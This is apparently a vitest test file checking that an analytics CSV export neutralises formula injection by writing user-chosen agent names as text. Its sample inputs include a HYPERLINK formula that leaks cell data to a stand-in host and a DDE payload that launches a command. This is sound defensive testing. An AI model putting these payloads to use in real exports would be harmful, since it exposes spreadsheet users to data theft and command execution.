// CSV exports defuse formula injection: the analytics export writes names that people chose (agents, flows), and a
// spreadsheet runs a cell starting with =, +, -, @, a tab or a carriage return as a formula. Each such cell must reach
// the file as text (a leading apostrophe), whatever is stored.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FastifyInstance } from 'fastify';
import { buildProject, buildUser } from '../../server/db/builders';
import { nowSeconds } from '../../server/lib/clock';
import { call, login, startTestServer } from './support/server';

const HOSTILE = ["=HYPERLINK(\"https://evil.test?\"&A1,\"Open\")", '+1+cmd|/C calc!A0', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1'];

let app: FastifyInstance;
let token: string;

beforeAll(async () => {
  app = await startTestServer();
  const p = await buildProject(app.repos, { name: 'CSV' });
  const admin = await buildUser(app.repos, { projectId: p.project.id, roleId: p.admin.id, name: 'Ada Admin' });
  token = await login(app, admin.email, admin.password);
  const now = nowSeconds() - 3600;
  for (const [i, name] of HOSTILE.entries()) {
    const agent = await buildUser(app.repos, { projectId: p.project.id, roleId: p.agent.id, name });
    const v = await app.repos.visitors.create({ project_id: p.project.id, public_id: `v-csv-${i}`, token_hash: `h-csv-${i}`, name: 'Visitor', email: 'v@example.test', last_seen_at: now, created_at: now });
    const c = await app.repos.conversations.create({ projectId: p.project.id, visitorId: v.id, bot: false, now });
    for (const [pos, sender] of (['visitor', 'agent'] as const).entries()) {
      await app.repos.messages.insert({ conversation_id: c.id, pos: pos + 1, type: 'message', sender_type: sender, sender_name: sender, user_id: sender === 'agent' ? agent.id : null, text: 'hello', payload: null, client_id: null, time: now + pos * 60 });
    }
    await app.repos.conversations.update(c.id, { message_count: 2, last_event_time: now + 60 });
  }
});
afterAll(() => app.close());

describe('analytics CSV export', () => {
  it('writes every formula-looking name as text', async () => {
    const res = await call(app, 'GET', '/app/analytics/export?span=7', undefined, token);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('text/csv');
    for (const name of HOSTILE) {
      const quoted = /[",\r\n]/.test(name);
      const cell = quoted ? `"'${name.replace(/"/g, '""')}"` : `'${name}`;
      expect(res.body).toContain(`\r\n${cell},1,60,,0\r\n`);
    }
    // Numbers are figures, not text: a negative number or a count is written as it is.
    expect(res.body).toContain('Conversations,6\r\n');
  });
});
